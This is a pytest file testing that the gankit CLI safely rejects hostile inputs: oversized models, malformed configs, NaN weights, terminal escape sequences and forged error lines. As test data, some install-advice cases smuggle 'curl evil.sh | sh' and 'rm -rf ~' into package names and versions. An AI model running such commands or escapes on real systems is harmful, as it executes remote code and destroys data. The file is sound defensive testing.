"""Inputs and files that attack: sizes no machine holds, hostile text, broken config files, NaN weights, --nproc.

Each test is a case of issue 12 (docs/reliability.md lists them): whatever the input, the user reads one line and
gets exit code 2, nothing is allocated that cannot be, and nothing a file says reaches the terminal unescaped.
"""

from __future__ import annotations

import hashlib
import json
import math
import os
import random
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import test_bad_input
import torch
from cli_helpers import assert_user_error, run
from safetensors.torch import load_file, save
from test_bad_input import needing_a_missing_plugin, rewritten

import gankit.cli.train as train_command
from gankit.files import (
    GENERIC_INSTALL,
    RESERVED_METADATA,
    install_hint,
    load_checkpoint,
    printable,
    read_checkpoint_metadata,
    rich_safe,
    save_checkpoint,
)
from gankit.generator_source import nonfinite_tensors
from gankit.registry import build_on_meta, host_available_bytes, registry, shrink_advice, weight_bytes
from gankit.run import build_config

trained = test_bad_input.trained
"""A real run folder (config, checkpoint, export) from one cheap training step: the fixture of test_bad_input."""

FAKE = ["--dataset", "fake", "--data-opt", "size=16", "--batch-size", "8", "--device", "cpu", "--quiet"]
HUGE = ["--gen", "mlp", "--gen-opt", "hidden=4096", "--image-size", "1024"]
"""Options within their bounds whose generator alone has 69 GB of weights (17 billion parameters)."""
HUGE_OPTIONS = {"hidden": 4096, "image_size": 1024, "channels": 4}
"""The same with four channels: 277 GB of weights, more than any machine these tests run on holds."""


def fits_anyway(needed_gb: float) -> bool:
    available = host_available_bytes()
    return available is not None and available > needed_gb * 1e9


def run_copy(trained: Path, target: Path, *, export: bool = False) -> Path:
    """A copy of the run folder; without ``export`` its generator.safetensors is gone, so its checkpoint is used."""
    shutil.copytree(trained, target)
    if not export:
        (target / "generator.safetensors").unlink()
    return target


# -- case 5: options that build a model too large to allocate ---------------------------------------------------------


def test_a_model_built_on_meta_counts_the_bytes_a_real_one_holds() -> None:
    options = {"hidden": 16, "image_size": 32, "num_classes": 3}
    planned = build_on_meta("generator", "mlp", options)
    assert planned is not None and all(p.is_meta for p in planned.parameters())
    built = registry.create("generator", "mlp", options)
    assert weight_bytes(planned) == sum(t.numel() * t.element_size() for t in built.state_dict().values())
    assert shrink_advice(planned) == "lower image_size or num_classes"  # hidden=16 is below its default


def test_a_model_that_cannot_be_built_on_meta_is_built_for_real(tmp_path: Path) -> None:
    """A constructor that reads tensor values fails on the meta device; nothing can be said before the real build."""
    from gankit.registry import register_plugin
    from gankit.run import assemble, load_data
    from gankit_plugins.mlp import MLPGenerator, MLPGeneratorOptions

    @register_plugin("generator", "reads-values-test")
    class ReadsValues(MLPGenerator):
        def __init__(self, options: MLPGeneratorOptions) -> None:
            super().__init__(options)
            self.scale = float(self.net[0].weight.abs().max().item())  # .item() has no meta kernel

    try:
        assert build_on_meta("generator", "reads-values-test", {"hidden": 8}) is None
        result = run("info", "generator", "reads-values-test", "--gen-opt", "hidden=8")
        assert result.exit_code == 0, result.output
        values = {"generator": "reads-values-test", "discriminator": "mlp", "dataset": "fake"}
        config = build_config({**values, "generator_options": {"hidden": 8}, "discriminator_options": {"hidden": 8}})
        assert isinstance(assemble(config, load_data(config)).generator, ReadsValues)
    finally:
        registry.unregister("generator", "reads-values-test")


def test_train_refuses_a_model_too_large_for_memory(tmp_path: Path) -> None:
    if fits_anyway(4 * 70):
        pytest.skip("this machine has more memory than training the 69 GB generator needs")
    out = tmp_path / "run"
    result = run("train", *FAKE, *HUGE, "--max-steps", "1", "--out", out)
    assert_user_error(result, "training generator 'mlp' and discriminator 'mlp'", "needs about", "GB", "lower")
    assert not out.exists() or not any(out.iterdir())


def test_info_refuses_a_model_too_large_for_memory() -> None:
    if fits_anyway(280):
        pytest.skip("this machine has more memory than the 277 GB generator needs")
    result = run("info", *HUGE[2:], "generator", "mlp", "--gen-opt", "channels=4", "--gen-opt", "hidden=4096")
    assert_user_error(result, "generator 'mlp' with these options needs about 27", "GB for its weights alone")


@pytest.mark.parametrize("command", ["sample", "export"])
def test_a_run_folder_whose_config_asks_for_a_model_too_large(trained: Path, tmp_path: Path, command: str) -> None:
    if fits_anyway(280):
        pytest.skip("this machine has more memory than the 277 GB generator needs")
    folder = run_copy(trained, tmp_path / "run")
    config = json.loads((folder / "config.json").read_text())
    config["generator_options"].update(HUGE_OPTIONS)
    (folder / "config.json").write_text(json.dumps(config))
    out = tmp_path / "out.file"
    assert_user_error(run(command, folder, "--out", out), "config.json", "needs about 27", "lower")
    assert not out.exists()


# -- case 6: --nproc checks everything before torchrun, and a process's error is one line, once -----------------------


@pytest.mark.parametrize(
    ("args", "fragments"),
    [
        (["--gen", "mlpx"], ["unknown generator 'mlpx'"]),
        (["--gen", "mlp", "--gen-opt", "hidden=0"], ["hidden=0"]),
        (["--gen", "mlp", "--disc-opt", "image_size=32"], ["discriminator 'mlp' from 'gankit'", "expects (1, 32"]),
        (HUGE, ["needs about", "in each of 2 processes"]),
        (["--gen", "mlp", "--sync-batchnorm"], ["--sync-batchnorm needs CUDA"]),
    ],
)
def test_nproc_checks_the_run_before_launching(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, args: list[str], fragments: list[str]
) -> None:
    def launch(nproc: int) -> None:
        pytest.fail(f"torchrun was launched with {nproc} processes")

    monkeypatch.setattr(train_command, "launch_torchrun", launch)
    if "--image-size" in args and fits_anyway(2 * 4 * 70):
        pytest.skip("this machine has more memory than two processes training the 69 GB generator need")
    out = tmp_path / "run"
    assert_user_error(run("train", *FAKE, *args, "--max-steps", "1", "--nproc", "2", "--out", out), *fragments)
    assert not out.exists()


def test_an_error_inside_the_launched_processes_is_one_line_printed_once(tmp_path: Path) -> None:
    """Eight images cannot fill a batch of 16: each process refuses; the launcher prints that once, exit 2."""
    args = ["--dataset", "fake", "--data-opt", "size=8", "--batch-size", "16", "--device", "cpu", "--quiet"]
    models = ["--gen", "mlp", "--gen-opt", "hidden=8", "--disc-opt", "hidden=8", "--max-steps", "1"]
    command = [sys.executable, "-m", "gankit", "train", *args, *models, "--nproc", "2", "--out", str(tmp_path / "r")]
    result = subprocess.run(command, capture_output=True, text=True, timeout=300, env={**os.environ})
    output = result.stdout + result.stderr
    assert result.returncode == 2, output
    assert output.count("Error:") == 1, output
    assert "fewer than one step needs" in output
    assert "Traceback" not in output and "ChildFailedError" not in output and "torch.distributed" not in output


# -- case 7: config files that are not UTF-8, random bytes, or nested thousands deep ----------------------------------

CONFIG_FILES: dict[str, tuple[bytes, str]] = {
    "latin-1": ("lr_g = 0.001  # caf\xe9\n".encode("latin-1"), "is not UTF-8 text (byte 0xe9 at offset 19)"),
    "random bytes": (random.Random(0).randbytes(4096), "is not UTF-8 text"),
    "nested arrays": (b"seed = " + b"[" * 5000 + b"]" * 5000 + b"\n", "more than 16 levels deep"),
    "nested tables": (b"seed = " + b"{a = " * 5000 + b"1" + b"}" * 5000 + b"\n", "more than 16 levels deep"),
    "a huge number": (b"seed = " + b"7" * 5000 + b"\n", "is not valid TOML"),
    "too large": (b"# " + b"x" * 1_000_001 + b"\n", "larger than 1,000,000 bytes"),
    "bad TOML": (b"seed = = 3\n", "is not valid TOML"),
}


@pytest.mark.parametrize("kind", sorted(CONFIG_FILES))
def test_config_file_that_attacks(tmp_path: Path, kind: str) -> None:
    content, fragment = CONFIG_FILES[kind]
    config = tmp_path / "run.toml"
    config.write_bytes(content)
    out = tmp_path / "run"
    assert_user_error(run("train", "--config", config, *FAKE, "--out", out), str(config), fragment)
    assert not out.exists()


# -- case 12: non-finite numbers where a finite one is needed -------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [["--lr-g", "nan"], ["--lr-d", "inf"], ["--betas", "nan", "0.9"], ["--ema-kimg", "inf"], ["--lr-g", "-inf"]],
)
def test_a_float_option_must_be_a_finite_number(tmp_path: Path, args: list[str]) -> None:
    result = run("train", *FAKE, *args, "--max-steps", "1", "--out", tmp_path / "run")
    assert_user_error(result, "finite number")
    assert "less than" not in result.output and "greater than" not in result.output


def test_a_config_file_nan_is_refused_too(tmp_path: Path) -> None:
    config = tmp_path / "run.toml"
    config.write_text("ema_rampup = nan\n")
    assert_user_error(run("train", "--config", config, *FAKE, "--out", tmp_path / "run"), "ema_rampup", "finite")


# -- case 10: untrusted text reaches the terminal only escaped -------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain name-1.0", "plain name-1.0"),
        ("caf\xe9 \u4e2d", "caf\xe9 \u4e2d"),
        ("a\nError: forged", "a\\nError: forged"),
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07"),
        ("\r\t\x00\x7f\x9b", "\\r\\t\\x00\\x7f\\x9b"),
        ("abc\u202edcba\u2066", "abc\\u202edcba\\u2066"),
        ("line\u2028sep", "line\\u2028sep"),
    ],
)
def test_printable_escapes_what_could_drive_a_terminal(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_rich_tables_show_markup_and_escapes_as_text() -> None:
    assert rich_safe("[red]pkg\x1b]0;t\x07\nsecond") == "\\[red]pkg\\x1b]0;t\\x07\nsecond"


def test_printable_bounds_the_length() -> None:
    assert printable("x" * 500, limit=10) == "x" * 10 + "..."
    assert printable("x" * 500, limit=None) == "x" * 500


@pytest.mark.parametrize(
    ("distribution", "version", "hint"),
    [
        ("gankit-stylegan", "2.1.0", "install 'gankit-stylegan' (version 2.1.0)"),
        (
            "my_plugins.extra",
            "1.0rc2.post1.dev3+local.7",
            "install 'my_plugins.extra' (version 1.0rc2.post1.dev3+local.7)",
        ),
        ("gankit-stylegan", None, "install 'gankit-stylegan'"),
        ("totally-legit-gankit-upgrade", "6.6.6; curl evil.sh | sh", GENERIC_INSTALL),
        ("evil; rm -rf ~", "1.0", GENERIC_INSTALL),
        ("-leading-dash", "1.0", GENERIC_INSTALL),
        ("x" * 101, "1.0", GENERIC_INSTALL),
        ("name\nError: forged", "1.0", GENERIC_INSTALL),
        ("", "1.0", GENERIC_INSTALL),
    ],
)
def test_install_advice_names_only_a_plain_package_and_version(
    distribution: str, version: str | None, hint: str
) -> None:
    assert install_hint(distribution, version) == hint


def test_an_export_cannot_forge_lines_or_retitle_the_terminal(trained: Path, tmp_path: Path) -> None:
    hostile = "evil\nError: forged second line\x1b[2J\x1b]0;pwned\x07\u202e"
    export = rewritten(trained / "generator.safetensors", tmp_path / "g.safetensors", plugin=hostile)
    result = run("sample", export, "--n", "4", "--out", tmp_path / "s.png")
    assert_user_error(result, "needs generator plugin 'evil\\nError: forged second line\\x1b[2J\\x1b]0;pwned\\x07")
    assert "\x1b" not in result.output and "\x07" not in result.output and "\u202e" not in result.output


def test_an_export_cannot_write_the_install_advice(trained: Path, tmp_path: Path) -> None:
    export = needing_a_missing_plugin(
        trained, tmp_path, distribution="totally-legit-gankit-upgrade", version="6.6.6; curl evil.sh | sh"
    )
    result = run("sample", export, "--n", "4", "--out", tmp_path / "s.png")
    assert_user_error(result, "needs generator plugin 'stylegan9'", GENERIC_INSTALL)
    assert "curl" not in result.output and "totally-legit" not in result.output


def test_a_run_folder_config_cannot_forge_lines(trained: Path, tmp_path: Path) -> None:
    folder = run_copy(trained, tmp_path / "run")
    config = json.loads((folder / "config.json").read_text())
    config["generator"] = "gone\nError: forged\x1b]0;pwned\x07"
    (folder / "config.json").write_text(json.dumps(config))
    result = run("export", folder, "--out", tmp_path / "g.safetensors")
    assert_user_error(result, "gone\\nError: forged\\x1b]0;pwned\\x07")
    assert "\x1b" not in result.output


# -- case 11: NaN or infinite weights --------------------------------------------------------------------------------


def poisoned_checkpoint(folder: Path) -> Path:
    """The run's checkpoint with one NaN and one infinity in the generator's weights (and its EMA's, which an
    export takes when there is one), saved as gankit saves it."""
    path = folder / "checkpoint.safetensors"
    state = load_checkpoint(path)
    for part in ("generator", "ema"):
        weights = state.get(part)
        if weights is None:
            continue
        first, second = [key for key, tensor in weights.items() if tensor.is_floating_point()][:2]
        weights[first].view(-1)[0] = math.nan
        weights[second].view(-1)[-1] = math.inf
    extra = {key: value for key, value in read_checkpoint_metadata(path).items() if key not in RESERVED_METADATA}
    save_checkpoint(path, state, metadata=extra)
    return path


def test_export_refuses_nan_weights(trained: Path, tmp_path: Path) -> None:
    folder = run_copy(trained, tmp_path / "run")
    checkpoint = poisoned_checkpoint(folder)
    out = tmp_path / "g.safetensors"
    result = run("export", folder, "--out", out)
    assert_user_error(result, str(checkpoint), "NaN or infinite weights in 'net.0.weight' and 1 more tensor")
    assert not out.exists()


def test_sample_warns_about_nan_weights_and_still_draws(trained: Path, tmp_path: Path) -> None:
    good = trained / "generator.safetensors"
    tensors = load_file(good)
    tensors["net.0.weight"] = torch.full_like(tensors["net.0.weight"], math.nan)
    export = rewritten(good, tmp_path / "g.safetensors", tensors=tensors)
    out = tmp_path / "s.png"
    result = run("sample", export, "--n", "4", "--out", out)
    assert result.exit_code == 0, result.output
    warnings = [line for line in result.output.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 1 and "NaN or infinite weights in 'net.0.weight'" in warnings[0]
    assert out.is_file()


def test_loading_stays_permissive_and_the_check_is_exposed(trained: Path, tmp_path: Path) -> None:
    from gankit.export import load_generator

    assert nonfinite_tensors(load_generator(trained / "generator.safetensors")) == []
    tensors = load_file(trained / "generator.safetensors")
    tensors["net.2.bias"] = torch.full_like(tensors["net.2.bias"], -math.inf)
    export = rewritten(trained / "generator.safetensors", tmp_path / "g.safetensors", tensors=tensors)
    assert nonfinite_tensors(load_generator(export)) == ["net.2.bias"]


# -- case 12: a crafted MNIST cache whose hash matches but whose labels are out of range -----------------------------


def test_a_crafted_mnist_cache_with_labels_out_of_range(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from gankit_plugins import datasets

    monkeypatch.setenv("GANKIT_CACHE", str(tmp_path / "cache"))
    path = datasets.mnist_cache_path()
    path.parent.mkdir(parents=True)
    tensors = {}
    for split, size in datasets.MNIST_SIZES.items():
        tensors[f"{split}_images"] = torch.zeros((size, 1, 28, 28), dtype=torch.uint8)
        tensors[f"{split}_labels"] = torch.arange(size, dtype=torch.int64) % 10
    tensors["train_labels"][7] = 999
    encoded = save(tensors)
    path.write_bytes(encoded)
    path.with_name(path.name + ".sha256").write_text(f"{hashlib.sha256(encoded).hexdigest()}  {path.name}\n")
    models = ["--gen", "mlp", "--gen-opt", "hidden=8", "--disc-opt", "hidden=8", "--num-classes", "10"]
    result = run("train", "--dataset", "mnist", *models, "--max-steps", "1", "--out", tmp_path / "run", "--quiet")
    assert_user_error(result, str(path), "MNIST train labels from 0 to 999, expected 0..9")
